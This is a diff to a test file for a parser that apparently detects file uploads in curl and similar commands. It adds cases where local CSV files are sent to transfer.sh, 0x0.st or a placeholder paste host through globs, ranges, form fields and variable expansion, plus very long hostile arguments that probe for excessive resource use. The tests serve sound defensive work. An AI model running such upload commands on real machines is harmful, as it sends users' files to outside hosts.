@@ -284,8 +284,35 @@ describe('an upload by a web client', () => {
       'curl: -x\n.csv -> transfer.sh (null, transfer.sh)',
     ],
     [
-      ['curl', '-F', 'file=@/Users/maria/Größe;1.csv', 'https://0x0.st'],
+      ['curl', '-F', 'file=@"/Users/maria/Größe;1.csv"', 'https://0x0.st'],
       'curl: /Users/maria/Größe;1.csv -> 0x0.st (null, 0x0.st)',
+    ],
+    [
+      'curl -T {x.csv,/tmp/y.csv} https://transfer.sh/',
+      'curl: x.csv + /tmp/y.csv -> transfer.sh (null, transfer.sh)',
+    ],
+    [
+      'curl --upload-file=file[1-3].csv https://transfer.sh/',
+      'curl: file1.csv + file2.csv + file3.csv -> transfer.sh (null, transfer.sh)',
+    ],
+    ['curl -g -T {x}.csv https://transfer.sh/', 'curl: {x}.csv -> transfer.sh (null, transfer.sh)'],
+    [
+      'curl -F file=@x.csv,y.csv;type=text/csv https://0x0.st',
+      'curl: x.csv + y.csv -> 0x0.st (null, 0x0.st)',
+    ],
+    ['curl -F text=<x,y.csv https://0x0.st', 'curl: x,y.csv -> 0x0.st (null, 0x0.st)'],
+    ['curl -F a=1;headers=@x.csv https://0x0.st', 'curl: x.csv -> 0x0.st (null, 0x0.st)'],
+    [
+      'curl --url-query text@x.csv https://paste.example.net',
+      'curl: x.csv -> paste.example.net (null, paste.example.net)',
+    ],
+    [
+      'curl --url-query @x.csv https://paste.example.net',
+      'curl: x.csv -> paste.example.net (null, paste.example.net)',
+    ],
+    [
+      'curl --variable f@x.csv --expand-data {{f}} https://paste.example.net',
+      'curl: x.csv -> paste.example.net (null, paste.example.net)',
     ],
     ['curlie -T x.csv https://transfer.sh/', 'curl: x.csv -> transfer.sh (null, transfer.sh)'],
     [
@@ -613,6 +640,10 @@ describe('no upload is', () => {
       'curl --form-string file=@x.csv https://api.example.net',
       'curl -F mail=maria@export.csv https://api.example.net',
       'curl --data-urlencode mail=maria@export.csv https://api.example.net',
+      'curl --data-urlencode maria@export.csv=x https://api.example.net',
+      'curl --url-query mail=maria@export.csv https://api.example.net',
+      'curl --url-query export.csv https://api.example.net',
+      'curl --variable f=x.csv --expand-data {{f}} https://api.example.net',
       'curl -H @x.csv https://api.example.net',
       'curl -u maria@export.csv:SECRET https://api.example.net',
       'curl -b x.csv -c y.csv https://api.example.net',
@@ -967,11 +998,11 @@ describe('any arguments', () => {
     fc.string(),
   );
 
-  it('never make it throw, and a source is always text of the command', () => {
+  it('never make it throw, and a source is text of the command, but for globs and quotes of curl', () => {
     fc.assert(
       fc.property(fc.constantFrom(...names), fc.array(word, { maxLength: 12 }), (name, args) => {
         const upload = read([name, ...args]);
-        for (const source of upload?.sources ?? [])
+        for (const source of upload?.tool === 'curl' ? [] : (upload?.sources ?? []))
           expect(args.some((arg) => arg.includes(source))).toBe(true);
       }),
       { numRuns: 500 },
@@ -992,6 +1023,12 @@ describe('hostile arguments', () => {
     ['names before a form file', 'curl', `-F${'a'.repeat(200_000)}`],
     ['names before data', 'curl', `--data-urlencode=${'a'.repeat(200_000)}`],
     ['quotes of a form file', 'curl', `-Fa=@${'"'.repeat(200_000)}`],
+    ['quoted form files', 'curl', `-Fa=@${'"a",'.repeat(50_000)}`],
+    ['backslashes of a form file', 'curl', `-Fa=@"${'\\\\'.repeat(100_000)}`],
+    ['sets', 'curl', `-T${'{a,b}'.repeat(40_000)}`],
+    ['sets that do not end', 'curl', `-T${'{'.repeat(200_000)}`],
+    ['ranges', 'curl', `-T${'[0-9]'.repeat(40_000)}`],
+    ['a range', 'curl', '-T[1-999999999999]'],
     ['hosts and ports', 'curl', `${'a.b:1'.repeat(40_000)}-`],
     ['labels', 'curl', `${'a.'.repeat(100_000)}!`],
     ['colons before an item', 'http', `${':'.repeat(200_000)}@`],
